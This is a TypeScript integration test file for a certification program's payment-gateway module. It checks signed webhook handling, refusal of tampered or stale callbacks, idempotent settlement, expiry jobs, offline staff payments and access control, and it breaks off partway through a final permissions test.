import { parse } from 'csv-parse/sync';
import { and, eq, like } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROLES } from '@certs/shared/auth/roles';
import { PAYMENT_MESSAGES } from '@certs/shared/payment/payment.contract';
import { TEST_JWT_SECRET } from '../../../test/build-test-app';
import { createInvoicedApplication, type InvoicedApplication } from '../../../test/factories/invoice.factory';
import { buildPaymentTestApp, type PaymentTestApp } from '../../../test/factories/payment.factory';
import { addProgramUser, createStaffOfAnotherProgram } from '../../../test/factories/program.factory';
import { createUser, type CreatedUser } from '../../../test/factories/user.factory';
import { bearer, signIn } from '../../../test/sign-in';
import { applicationHistory, applications } from '../../db/schema/application';
import { mails } from '../../db/schema/mail';
import { invoices, paymentEvents, payments } from '../../db/schema/payment';
import { paymentSigningSecret, signatureHeader } from './gateways/signature';
import { TEST_GATEWAY_SIGNATURE_HEADER } from './gateways/test-gateway';

const PUBLIC_URL = 'http://localhost:3000';
const SECRET = paymentSigningSecret(undefined, TEST_JWT_SECRET);
const logs: string[] = [];
let t: PaymentTestApp;
let manager: CreatedUser;
let managerJwt: string;
let programId: string;
let programCode: string;

interface Invoiced extends InvoicedApplication {
  jwt: string;
}

const get = (url: string, jwt: string) => t.app.inject({ method: 'GET', url, headers: bearer(jwt) });
const post = (url: string, payload: object | undefined, jwt: string) => t.app.inject({ method: 'POST', url, headers: bearer(jwt), ...(payload ? { payload } : {}) });
const PG = '/api/paymentgateway';
const MODULE = '/api/qualificationapplicationmodule';

async function invoiced(overrides: { totalCents?: number; applicant?: CreatedUser } = {}): Promise<Invoiced> {
  const created = await createInvoicedApplication(t.database.db, { manager, programId, programCode, ...overrides });
  const { jwt } = await signIn(t.app, created.applicant);
  return { ...created, jwt };
}

/** Staff's "resend payment link" opens a payment request through openPaymentRequest. */
async function openLink(inv: Invoiced): Promise<string> {
  const response = await post(`${MODULE}/${inv.applicationId}/resend/payment/link`, {}, managerJwt);
  expect(response.statusCode, response.body).toBe(200);
  return response.json().trackerId;
}

/** The applicant presses Pay now; returns the test gateway session and its signed token. */
async function startCheckout(inv: Invoiced, trackerId: string): Promise<{ sessionId: string; token: string; redirectUrl: string }> {
  const response = await post(`${PG}/request/${trackerId}`, undefined, inv.jwt);
  expect(response.statusCode, response.body).toBe(200);
  const redirectUrl: string = response.json().redirectUrl;
  const url = new URL(redirectUrl);
  const sessionId = url.pathname.split('/').pop() ?? '';
  return { sessionId, token: url.searchParams.get('token') ?? '', redirectUrl };
}

async function complete(sessionId: string, token: string, outcome: 'paid' | 'declined') {
  return t.app.inject({ method: 'POST', url: `/unauth/testgateway/session/${sessionId}/complete`, payload: { token, outcome } });
}

async function paymentRow(trackerId: string) {
  const [row] = await t.database.db.select().from(payments).where(eq(payments.trackerId, trackerId));
  if (!row) throw new Error('no payment');
  return row;
}

async function historyOf(applicationId: string) {
  return t.database.db.select().from(applicationHistory).where(eq(applicationHistory.applicationId, applicationId)).orderBy(applicationHistory.sequence);
}

async function mailsTo(userId: string, subject: string) {
  return t.database.db
    .select()
    .from(mails)
    .where(and(eq(mails.toUserId, userId), like(mails.subject, `${subject}%`)));
}

async function applicationOf(id: string) {
  const [row] = await t.database.db.select().from(applications).where(eq(applications.id, id));
  return row;
}

/** A signed test-gateway event, as the gateway would deliver it. */
function signedEvent(event: object, timestamp?: number) {
  const body = JSON.stringify(event);
  return { body, headers: { 'content-type': 'application/json', [TEST_GATEWAY_SIGNATURE_HEADER]: signatureHeader(SECRET, body, timestamp) } };
}

function deliver(body: string, headers: Record<string, string>) {
  return t.app.inject({ method: 'POST', url: '/unauth/paymentgateway/webhook/test', payload: body, headers });
}

/** The gateway recorded a payment whose callback never arrived (a lost webhook). */
async function paidAtGatewayOnly(sessionId: string, amountCents: number, currency = 'AUD') {
  await t.database.db
    .update(payments)
    .set({ gatewayReference: `${sessionId};paid;${amountCents};${currency};tch_lost` })
    .where(eq(payments.gatewayReference, sessionId));
}

beforeAll(async () => {
  t = await buildPaymentTestApp({ PUBLIC_URL }, { logs });
  manager = await createUser(t.database.db, { role: ROLES.AccountAdministrator, menuItems: ['Programs', 'Reports'], firstName: 'Mia', lastName: 'Manager' });
  managerJwt = (await signIn(t.app, manager)).jwt;
  const first = await createInvoicedApplication(t.database.db, { manager });
  programId = first.programId;
  programCode = first.programCode;
});

afterAll(async () => {
  await t.close();
});

describe('opening a payment request (the contract the pre-exam stage calls)', () => {
  it('opens a Requested link on the configured gateway, expiring after PAYMENT_LINK_HOURS, and expires the open one of the invoice', async () => {
    const inv = await invoiced();
    const first = await t.database.db.transaction((tx) =>
      t.payments.openPaymentRequest(tx, { invoiceId: inv.invoiceId, applicationId: inv.applicationId, amountCents: inv.totalCents, currency: 'AUD', actorId: manager.id }),
    );
    expect(first.paymentUrl).toBe(`${PUBLIC_URL}/student/payments/${first.trackerId}`);
    expect(first.expiresOn.getTime() - Date.now()).toBeGreaterThan(71.9 * 3600_000);
    expect(first.expiresOn.getTime() - Date.now()).toBeLessThanOrEqual(72 * 3600_000);
    const row = await paymentRow(first.trackerId);
    expect(row).toMatchObject({ status: 'Requested', gateway: 'test', amountCents: inv.totalCents, currency: 'AUD', transactionStatus: null });

    const second = await t.database.db.transaction((tx) =>
      t.payments.openPaymentRequest(tx, { invoiceId: inv.invoiceId, applicationId: inv.applicationId, amountCents: inv.totalCents, currency: 'AUD', actorId: null }),
    );
    expect((await paymentRow(first.trackerId)).status).toBe('Expired');
    expect((await paymentRow(second.trackerId)).status).toBe('Requested');
  });

  it('puts a zero total on the zero-payment path', async () => {
    const inv = await invoiced({ totalCents: 0 });
    const opened = await t.database.db.transaction((tx) => t.payments.openPaymentRequest(tx, { invoiceId: inv.invoiceId, applicationId: inv.applicationId, amountCents: 0, currency: 'AUD', actorId: null }));
    expect((await paymentRow(opened.trackerId)).gateway).toBe('zero');
  });
});

describe('paying on the test gateway', () => {
  it('a signed success settles once: payment Success, invoice Paid, stage Payment Stage Completed, one history entry, one receipt', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const before = await get(`${PG}/payment/${trackerId}/trackerdata`, inv.jwt);
    expect(before.json()).toMatchObject({ status: 'Requested', displayedStatus: 'Pending', amountCents: 35000, canPay: true, isZero: false, programCode });
    expect(before.json().invoiceNumber).toMatch(/^INV-\d{6}$/);

    const { sessionId, token, redirectUrl } = await startCheckout(inv, trackerId);
    expect(redirectUrl.startsWith(`${PUBLIC_URL}/payment-gateway/test/tgs_`)).toBe(true);
    expect((await paymentRow(trackerId)).status).toBe('Pending');

    const page = await t.app.inject({ method: 'GET', url: `/unauth/testgateway/session/${sessionId}?token=${encodeURIComponent(token)}` });
    expect(page.statusCode).toBe(200);
    expect(page.json()).toMatchObject({ sessionId, amountCents: 35000, currency: 'AUD', applicationNumber: inv.applicationNumber, state: 'open' });
    expect(page.json().merchant).toContain('Welding');

    const paid = await complete(sessionId, token, 'paid');
    expect(paid.statusCode, paid.body).toBe(200);
    expect(paid.json()).toEqual({ redirectUrl: `${PUBLIC_URL}/student/payments/${trackerId}`, state: 'paid' });

    const row = await paymentRow(trackerId);
    expect(row).toMatchObject({ status: 'Success', transactionStatus: true });
    expect(row.paidOn).toBeInstanceOf(Date);
    const [invoice] = await t.database.db.select().from(invoices).where(eq(invoices.id, inv.invoiceId));
    expect(invoice).toMatchObject({ status: 'Paid' });
    expect((await applicationOf(inv.applicationId))).toMatchObject({ status: 'Examinations Stage', workflowStage: 'Payment Stage Completed' });
    const history = await historyOf(inv.applicationId);
    const paidEntries = history.filter((h) => h.toStage === 'Payment Stage Completed');
    expect(paidEntries).toHaveLength(1);
    expect(paidEntries[0]).toMatchObject({ fromStage: 'Payment Stage Requested', fromStatus: 'Examinations Stage', toStatus: 'Examinations Stage' });
    expect(paidEntries[0]?.note).toMatch(/^Payment received: \$350\.00 \(Test gateway, tch_[0-9a-f]+\)$/);
    const receipts = await mailsTo(inv.applicant.id, 'Payment received');
    expect(receipts).toHaveLength(1);
    expect(receipts[0]?.text).toContain(`invoice INV-${String(inv.invoiceNumber).padStart(6, '0')}`);
    expect(receipts[0]?.text).toContain('amount paid $350.00 AUD');
    expect(receipts[0]?.text).toMatch(/date \d{2}-[A-Z][a-z]{2}-\d{4}/);

    // The browser comes back: the re-check finds it paid and changes nothing more.
    const back = await post(`${PG}/afterpayment/callback`, { trackerId }, inv.jwt);
    expect(back.statusCode).toBe(200);
    expect(back.json()).toMatchObject({ status: 'Success', displayedStatus: 'Success', canPay: false });
    expect((await historyOf(inv.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);
    expect(await mailsTo(inv.applicant.id, 'Payment received')).toHaveLength(1);

    // A second click on the gateway page records nothing new.
    const again = await complete(sessionId, token, 'paid');
    expect(again.json().state).toBe('paid');
    // Paying again is refused.
    const request = await post(`${PG}/request/${trackerId}`, undefined, inv.jwt);
    expect(request.statusCode).toBe(409);
    expect(request.json().message).toBe(PAYMENT_MESSAGES.alreadyPaid);
  });

  it('a duplicate callback (the same signed event again) records nothing more', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    const event = { id: `evt_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: inv.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'tch_lost' } };
    const { body, headers } = signedEvent(event);
    const first = await deliver(body, headers);
    expect(first.json()).toEqual({ received: true, outcome: 'applied' });
    const second = await deliver(body, headers);
    expect(second.statusCode).toBe(200);
    expect(second.json()).toEqual({ received: true, outcome: 'duplicate' });
    expect((await paymentRow(trackerId)).status).toBe('Success');
    expect((await historyOf(inv.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);
    expect(await mailsTo(inv.applicant.id, 'Payment received')).toHaveLength(1);
    const events = await t.database.db.select().from(paymentEvents).where(and(eq(paymentEvents.gateway, 'test'), eq(paymentEvents.eventId, `evt_${sessionId}`)));
    expect(events).toHaveLength(1);
  });

  it('ten parallel identical callbacks give exactly one Success, one history entry and one mail', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    const responses = await Promise.all(Array.from({ length: 10 }, () => post(`${PG}/afterpayment/callback`, { trackerId }, inv.jwt)));
    expect(responses.map((r) => r.statusCode)).toEqual(Array(10).fill(200));
    expect(responses.every((r) => r.json().status === 'Success')).toBe(true);
    const rows = await t.database.db.select().from(payments).where(and(eq(payments.invoiceId, inv.invoiceId), eq(payments.status, 'Success')));
    expect(rows).toHaveLength(1);
    expect((await historyOf(inv.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);
    expect(await mailsTo(inv.applicant.id, 'Payment received')).toHaveLength(1);

    // Ten parallel deliveries of one webhook event on another invoice: one applied, nine duplicates.
    const other = await invoiced();
    const otherTracker = await openLink(other);
    const otherSession = await startCheckout(other, otherTracker);
    await paidAtGatewayOnly(otherSession.sessionId, 35000);
    const { body, headers } = signedEvent({ id: `evt_${otherSession.sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId: otherSession.sessionId, trackerId: otherTracker, invoiceId: other.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'tch_lost' } });
    const outcomes = (await Promise.all(Array.from({ length: 10 }, () => deliver(body, headers)))).map((r) => r.json().outcome);
    expect(outcomes.filter((o) => o === 'applied')).toHaveLength(1);
    expect(outcomes.filter((o) => o === 'duplicate')).toHaveLength(9);
    expect((await historyOf(other.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);
    expect(await mailsTo(other.applicant.id, 'Payment received')).toHaveLength(1);
  });

  it('a decline sets Failed with a short mail and the link; the applicant can try again and pay', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId, token } = await startCheckout(inv, trackerId);
    const declined = await complete(sessionId, token, 'declined');
    expect(declined.json().state).toBe('declined');
    expect(await paymentRow(trackerId)).toMatchObject({ status: 'Failed', transactionStatus: false });
    const data = (await get(`${PG}/payment/${trackerId}/trackerdata`, inv.jwt)).json();
    // The reason is in words: the gateway's event name (payment.declined) is for the event log only.
    expect(data).toMatchObject({ displayedStatus: 'Failed', canPay: true, failureReason: 'Declined at the gateway' });
    const failures = await mailsTo(inv.applicant.id, 'Payment not completed');
    expect(failures).toHaveLength(1);
    expect(failures[0]?.links).toEqual([{ label: 'Pay the invoice', url: `${PUBLIC_URL}/student/payments/${trackerId}` }]);
    expect((await applicationOf(inv.applicationId))?.workflowStage).toBe('Payment Stage Requested');

    const retry = await startCheckout(inv, trackerId);
    expect(await paymentRow(trackerId)).toMatchObject({ status: 'Pending', transactionStatus: null });
    await complete(retry.sessionId, retry.token, 'paid');
    expect((await paymentRow(trackerId)).status).toBe('Success');
    expect((await applicationOf(inv.applicationId))?.workflowStage).toBe('Payment Stage Completed');
  });
});

describe('callbacks that are refused', () => {
  it('a tampered body or signature is refused with 400 and changes nothing', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    const event = { id: `evt_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: inv.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'x' } };
    const { body, headers } = signedEvent(event);
    const tamperedBody = await deliver(body.replace('35000', '35001'), headers);
    expect(tamperedBody.statusCode).toBe(400);
    expect(tamperedBody.json().message).toBe(PAYMENT_MESSAGES.badSignature);
    const header = headers[TEST_GATEWAY_SIGNATURE_HEADER];
    const flipped = header.replace(/v1=(.)/, (_m, c: string) => `v1=${c === 'a' ? 'b' : 'a'}`);
    expect((await deliver(body, { ...headers, [TEST_GATEWAY_SIGNATURE_HEADER]: flipped })).statusCode).toBe(400);
    const wrongSecret = `t=${Math.floor(Date.now() / 1000)},v1=${'0'.repeat(64)}`;
    expect((await deliver(body, { ...headers, [TEST_GATEWAY_SIGNATURE_HEADER]: wrongSecret })).statusCode).toBe(400);
    expect((await deliver(body, { 'content-type': 'application/json' })).statusCode).toBe(400);
    expect((await paymentRow(trackerId)).status).toBe('Pending');
    expect(await t.database.db.select().from(paymentEvents).where(eq(paymentEvents.eventId, `evt_${sessionId}`))).toHaveLength(0);
    expect(logs.some((line) => line.includes('bad signature'))).toBe(true);
  });

  it('a timestamp older than 5 minutes is refused even with a valid signature', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    const event = { id: `evt_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: inv.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'x' } };
    const old = signedEvent(event, Math.floor(Date.now() / 1000) - 301);
    expect((await deliver(old.body, old.headers)).statusCode).toBe(400);
    expect((await paymentRow(trackerId)).status).toBe('Pending');
    const fresh = signedEvent(event, Math.floor(Date.now() / 1000) - 240);
    expect((await deliver(fresh.body, fresh.headers)).json().outcome).toBe('applied');
  });

  it('a wrong amount (in the event, or as the gateway charged it) is refused and logged', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    const { body, headers } = signedEvent({ id: `evt_wrong_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: inv.invoiceId, amountCents: 100, currency: 'AUD', reference: 'x' } });
    expect((await deliver(body, headers)).json().outcome).toBe('refused');
    expect((await paymentRow(trackerId)).status).toBe('Pending');
    const [event] = await t.database.db.select().from(paymentEvents).where(eq(paymentEvents.eventId, `evt_wrong_${sessionId}`));
    expect(event).toMatchObject({ outcome: 'refused', reason: 'The event reports $1.00 but the invoice total is $350.00' });
    expect(logs.some((line) => line.includes('payment callback refused') && line.includes(inv.invoiceId))).toBe(true);

    const other = await invoiced();
    const otherTracker = await openLink(other);
    const otherSession = await startCheckout(other, otherTracker);
    await paidAtGatewayOnly(otherSession.sessionId, 100);
    const back = await post(`${PG}/afterpayment/callback`, { trackerId: otherTracker }, other.jwt);
    expect(back.json().status).toBe('Pending');
    expect((await applicationOf(other.applicationId))?.workflowStage).toBe('Payment Stage Requested');
    expect(await mailsTo(other.applicant.id, 'Payment received')).toHaveLength(0);
  });

  it('a wrong currency is refused', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000, 'NZD');
    const back = await post(`${PG}/afterpayment/callback`, { trackerId }, inv.jwt);
    expect(back.json().status).toBe('Pending');
    const events = await t.database.db.select().from(paymentEvents).where(like(paymentEvents.eventId, `recheck:${sessionId}%`));
    expect(events[0]).toMatchObject({ outcome: 'refused', reason: 'The gateway charged in NZD but the invoice is in AUD' });
    const { body, headers } = signedEvent({ id: `evt_cur_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: inv.invoiceId, amountCents: 35000, currency: 'USD', reference: 'x' } });
    expect((await deliver(body, headers)).json().outcome).toBe('refused');
  });

  it('an event naming another invoice, or a tracker the gateway did not record, is refused', async () => {
    const inv = await invoiced();
    const other = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    const wrongInvoice = signedEvent({ id: `evt_inv_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: other.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'x' } });
    expect((await deliver(wrongInvoice.body, wrongInvoice.headers)).json().outcome).toBe('refused');
    const otherTracker = await openLink(other);
    const wrongTracker = signedEvent({ id: `evt_trk_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId: otherTracker, invoiceId: other.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'x' } });
    expect((await deliver(wrongTracker.body, wrongTracker.headers)).json().outcome).toBe('refused');
    expect((await paymentRow(otherTracker)).status).toBe('Requested');
    expect((await paymentRow(trackerId)).status).toBe('Pending');
  });
});

describe('zero amount', () => {
  it('a zero invoice is confirmed on the zero path: Success with gateway zero, stage completed, receipt', async () => {
    const inv = await invoiced({ totalCents: 0 });
    const trackerId = await openLink(inv);
    const data = (await get(`${PG}/payment/${trackerId}/trackerdata`, inv.jwt)).json();
    expect(data).toMatchObject({ isZero: true, gateway: 'zero', displayedStatus: 'Success', status: 'Requested' });
    const request = await post(`${PG}/request/${trackerId}`, undefined, inv.jwt);
    expect(request.statusCode).toBe(409);
    const confirmed = await post(`${PG}/afterzeropayment/callback`, { trackerId }, inv.jwt);
    expect(confirmed.statusCode, confirmed.body).toBe(200);
    expect(confirmed.json()).toMatchObject({ status: 'Success', gateway: 'zero', displayedStatus: 'Success' });
    expect((await applicationOf(inv.applicationId))?.workflowStage).toBe('Payment Stage Completed');
    expect(await mailsTo(inv.applicant.id, 'Payment received')).toHaveLength(1);
    // Confirming twice changes nothing.
    expect((await post(`${PG}/afterzeropayment/callback`, { trackerId }, inv.jwt)).statusCode).toBe(200);
    expect((await historyOf(inv.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);
  });

  it('the zero path is refused for a non-zero invoice, and the client cannot send an amount', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const refused = await post(`${PG}/afterzeropayment/callback`, { trackerId }, inv.jwt);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().message).toBe(PAYMENT_MESSAGES.notZero);
    const withAmount = await post(`${PG}/afterzeropayment/callback`, { trackerId, amountCents: 0 }, inv.jwt);
    expect(withAmount.statusCode).toBe(400);
    expect((await paymentRow(trackerId)).status).toBe('Requested');
  });
});

describe('jobs', () => {
  it('the expiry job expires links past their time, with a history note; an expired link cannot be paid', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    await t.database.db.update(payments).set({ expiresOn: new Date(Date.now() - 60_000) }).where(eq(payments.trackerId, trackerId));
    expect(await t.payments.expireDue()).toBeGreaterThanOrEqual(1);
    expect((await paymentRow(trackerId)).status).toBe('Expired');
    const notes = (await historyOf(inv.applicationId)).filter((h) => h.note.startsWith('Payment link expired unpaid'));
    expect(notes).toHaveLength(1);
    expect((await get(`${PG}/payment/${trackerId}/trackerdata`, inv.jwt)).json()).toMatchObject({ displayedStatus: 'Expired', canPay: false });
    const request = await post(`${PG}/request/${trackerId}`, undefined, inv.jwt);
    expect(request.statusCode).toBe(409);
    expect(request.json().message).toBe(PAYMENT_MESSAGES.expired);
    // A second pass finds nothing more to do.
    await t.payments.expireDue();
    expect((await historyOf(inv.applicationId)).filter((h) => h.note.startsWith('Payment link expired unpaid'))).toHaveLength(1);
  });

  it('money the gateway received for an expired link is still recorded', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId, token } = await startCheckout(inv, trackerId);
    await t.database.db.update(payments).set({ expiresOn: new Date(Date.now() - 60_000), status: 'Expired' }).where(eq(payments.trackerId, trackerId));
    // The tester had the gateway page open and pays after the link expired.
    await t.database.db.update(payments).set({ expiresOn: new Date(Date.now() - 60_000) }).where(eq(payments.trackerId, trackerId));
    await paidAtGatewayOnly(sessionId, 35000);
    const { body, headers } = signedEvent({ id: `evt_late_${sessionId}`, type: 'payment.succeeded', created: 0, data: { sessionId, trackerId, invoiceId: inv.invoiceId, amountCents: 35000, currency: 'AUD', reference: 'tch_lost' } });
    expect((await deliver(body, headers)).json().outcome).toBe('applied');
    expect(await paymentRow(trackerId)).toMatchObject({ status: 'Success', transactionStatus: true });
    expect((await applicationOf(inv.applicationId))?.workflowStage).toBe('Payment Stage Completed');
    expect(token).not.toBe('');
  });

  it('the expiry job asks the gateway first: a Pending payment paid there is settled, not expired', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    await t.database.db.update(payments).set({ expiresOn: new Date(Date.now() - 60_000) }).where(eq(payments.trackerId, trackerId));
    await t.payments.expireDue();
    expect((await paymentRow(trackerId)).status).toBe('Success');
  });

  it('the re-check job settles Pending payments older than N minutes that the gateway says are paid; two passes at once check each once', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const { sessionId } = await startCheckout(inv, trackerId);
    await paidAtGatewayOnly(sessionId, 35000);
    // Too recent: left alone.
    expect(await t.payments.recheckPending({ olderThanMinutes: 10 })).toBe(0);
    expect((await paymentRow(trackerId)).status).toBe('Pending');
    await t.database.db.update(payments).set({ modifiedOn: new Date(Date.now() - 11 * 60_000) }).where(eq(payments.trackerId, trackerId));
    const [a, b] = await Promise.all([t.payments.recheckPending({ olderThanMinutes: 10 }), t.payments.recheckPending({ olderThanMinutes: 10 })]);
    expect((a ?? 0) + (b ?? 0)).toBe(1);
    expect((await paymentRow(trackerId)).status).toBe('Success');
    expect((await historyOf(inv.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);

    // A Pending payment the gateway has not finished is only marked as checked.
    const open = await invoiced();
    const openTracker = await openLink(open);
    await startCheckout(open, openTracker);
    await t.database.db.update(payments).set({ modifiedOn: new Date(Date.now() - 11 * 60_000) }).where(eq(payments.trackerId, openTracker));
    expect(await t.payments.recheckPending({ olderThanMinutes: 10 })).toBe(0);
    const row = await paymentRow(openTracker);
    expect(row.status).toBe('Pending');
    expect(row.lastCheckedOn).toBeInstanceOf(Date);
  });
});

describe('staff: offline payment and resending the link', () => {
  it('staff record an offline payment with its reference; a second one is 409', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const verified = await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'BANK-20260301-77', note: 'Seen on the statement' }, managerJwt);
    expect(verified.statusCode, verified.body).toBe(200);
    expect(verified.json()).toMatchObject({ gateway: 'offline', status: 'Success', displayedStatus: 'Success', offlineReference: 'BANK-20260301-77', amountCents: 35000 });
    expect((await paymentRow(trackerId)).status).toBe('Expired');
    expect((await applicationOf(inv.applicationId))?.workflowStage).toBe('Payment Stage Completed');
    const entry = (await historyOf(inv.applicationId)).find((h) => h.toStage === 'Payment Stage Completed');
    expect(entry?.note).toBe('Payment received: $350.00 (Offline (bank transfer), BANK-20260301-77). Verified by staff: Seen on the statement');
    expect(entry?.createdBy).toBe(manager.id);
    expect(await mailsTo(inv.applicant.id, 'Payment received')).toHaveLength(1);

    const again = await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'BANK-2' }, managerJwt);
    expect(again.statusCode).toBe(409);
    expect(again.json().message).toBe(PAYMENT_MESSAGES.alreadyPaid);
  });

  it('two staff recording the same offline payment at once: one wins, the other gets 409', async () => {
    const inv = await invoiced();
    await openLink(inv);
    const [a, b] = await Promise.all([
      post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'BANK-A' }, managerJwt),
      post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'BANK-B' }, managerJwt),
    ]);
    expect([a.statusCode, b.statusCode].sort()).toEqual([200, 409]);
    const successes = await t.database.db.select().from(payments).where(and(eq(payments.invoiceId, inv.invoiceId), eq(payments.status, 'Success')));
    expect(successes).toHaveLength(1);
    expect((await historyOf(inv.applicationId)).filter((h) => h.toStage === 'Payment Stage Completed')).toHaveLength(1);
  });

  it('checks the offline form and who may use it', async () => {
    const inv = await invoiced();
    const blank = await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: '  ' }, managerJwt);
    expect(blank.statusCode).toBe(400);
    expect(JSON.stringify(blank.json())).toContain(PAYMENT_MESSAGES.referenceRequired);
    expect((await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'X', amountCents: 1 }, managerJwt)).statusCode).toBe(400);
    expect((await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'X' }, inv.jwt)).statusCode).toBe(403);
    const contributor = await createUser(t.database.db, { role: ROLES.AccountContributor, menuItems: ['Programs'] });
    const contributorJwt = (await signIn(t.app, contributor)).jwt;
    expect((await post(`${MODULE}/${inv.applicationId}/payment/verified`, { reference: 'X' }, contributorJwt)).statusCode).toBe(403);
    expect((await post(`${MODULE}/${inv.applicationId}/resend/payment/link`, {}, contributorJwt)).statusCode).toBe(403);
    // The wrong module type for the application's program is not found.
    expect((await post(`/api/aicipapplicationmodule/${inv.applicationId}/payment/verified`, { reference: 'X' }, managerJwt)).statusCode).toBe(404);
  });

  it('resending the link expires the open one, opens a new one, mails it and notes it in the history', async () => {
    const inv = await invoiced();
    const first = await openLink(inv);
    const response = await post(`${MODULE}/${inv.applicationId}/resend/payment/link`, { note: 'Applicant lost the mail' }, managerJwt);
    expect(response.statusCode).toBe(200);
    const second = response.json();
    expect(second.paymentUrl).toBe(`${PUBLIC_URL}/student/payments/${second.trackerId}`);
    expect((await paymentRow(first)).status).toBe('Expired');
    expect((await paymentRow(second.trackerId)).status).toBe('Requested');
    const notes = (await historyOf(inv.applicationId)).filter((h) => h.note.startsWith('Payment link sent again'));
    expect(notes).toHaveLength(2);
    expect(notes[1]?.note).toContain('Applicant lost the mail');
    const linkMails = await mailsTo(inv.applicant.id, `Application ${inv.applicationNumber}: payment link`);
    expect(linkMails).toHaveLength(2);
    expect(linkMails.some((m) => m.links.some((l) => l.url === second.paymentUrl))).toBe(true);
    expect((await post(`${PG}/request/${first}`, undefined, inv.jwt)).statusCode).toBe(409);
    expect((await post(`${MODULE}/${inv.applicationId}/resend/payment/link`, {}, inv.jwt)).statusCode).toBe(403);
  });
});

describe('ownership', () => {
  it('another applicant learns nothing about a payment (404) and cannot pay or confirm it', async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const stranger = await createUser(t.database.db, { role: ROLES.Applicant });
    const strangerJwt = (await signIn(t.app, stranger)).jwt;
    expect((await get(`${PG}/payment/${trackerId}/trackerdata`, strangerJwt)).statusCode).toBe(404);
    expect((await get(`${PG}/payment/${trackerId}`, strangerJwt)).statusCode).toBe(404);
    expect((await get(`${PG}/payment/byapplication/${inv.applicationId}`, strangerJwt)).statusCode).toBe(404);
    expect((await post(`${PG}/request/${trackerId}`, undefined, strangerJwt)).statusCode).toBe(404);
    expect((await post(`${PG}/afterpayment/callback`, { trackerId }, strangerJwt)).statusCode).toBe(404);
    expect((await post(`${PG}/afterzeropayment/callback`, { trackerId }, strangerJwt)).statusCode).toBe(404);
    // Staff may read but never pay on the applicant's behalf.
    expect((await post(`${PG}/request/${trackerId}`, undefined, managerJwt)).statusCode).toBe(403);
    const list = await get(`${PG}/payment/byapplication/${inv.applicationId}`, managerJwt);
    expect(list.statusCode).toBe(200);
    expect(list.json()[0]).toMatchObject({ trackerId, displayedStatus: 'Pending' });
    const own = await get(`${PG}/payment/byapplication/${inv.applicationId}`, inv.jwt);
    expect(own.json()).toHaveLength(1);
    const outsider = await createUser(t.database.db, { role: ROLES.AccountContributor, menuItems: ['Programs'] });
    expect((await get(`${PG}/payment/byapplication/${inv.applicationId}`, (await signIn(t.app, outsider)).jwt)).statusCode).toBe(403);
    expect((await t.app.inject({ method: 'GET', url: `${PG}/payment/${trackerId}/trackerdata` })).statusCode).toBe(401);
  });

  it("another program's staff get 403 on every payment read; the program's assessor reads them", async () => {
    const inv = await invoiced();
    const trackerId = await openLink(inv);
    const paymentId = (await paymentRow(trackerId)).id;
    const db = t.database.db;
    const assessor = await createUser(db, { role: ROLES.AccountContributor, menuItems: ['Programs'] });
    await addProgramUser(db, programId, assessor.id, 'assessor');
